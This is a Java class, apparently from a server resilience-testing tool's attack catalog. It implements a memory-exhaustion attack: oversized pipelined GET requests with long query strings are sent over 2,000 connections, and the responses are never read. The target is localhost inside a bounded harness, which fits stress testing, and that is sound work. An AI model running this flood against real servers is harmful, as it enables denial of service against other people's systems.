package dev.sluice.attacks.catalog;

import java.nio.charset.StandardCharsets;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** Sends heads of 15 KB over HTTP on many connections, and reads none of the large answers. */
final class LargeHeads extends Attack {
  private static final int CONNECTIONS = 2_000;
  private static final int THREADS = 16;

  /** Enough answers to fill the buffers of a socket. */
  private static final int AT_ONCE = 12;

  private static final int PARAMETERS = 48;
  private static final String VALUE = "x".repeat(300);

  LargeHeads() {
    super("large-heads", Family.MEMORY, Access.NO_KEY, Bounds.of(CONNECTIONS, 400, 128));
  }

  private static byte[] requests() {
    String query =
        IntStream.range(0, PARAMETERS)
            .mapToObj(number -> number + "=" + VALUE)
            .collect(Collectors.joining("&"));
    String head = "GET /openapi.json?%s HTTP/1.1\r\nHost: localhost\r\n\r\n".formatted(query);
    return head.repeat(AT_ONCE).getBytes(StandardCharsets.US_ASCII);
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    byte[] requests = requests();
    attempt.parallel(
        THREADS,
        number -> {
          for (int i = 0; i < CONNECTIONS / THREADS && attempt.isRunning(); i++) {
            attempt.narrowHttp().send(requests);
          }
          attempt.holdOn();
        });
  }
}
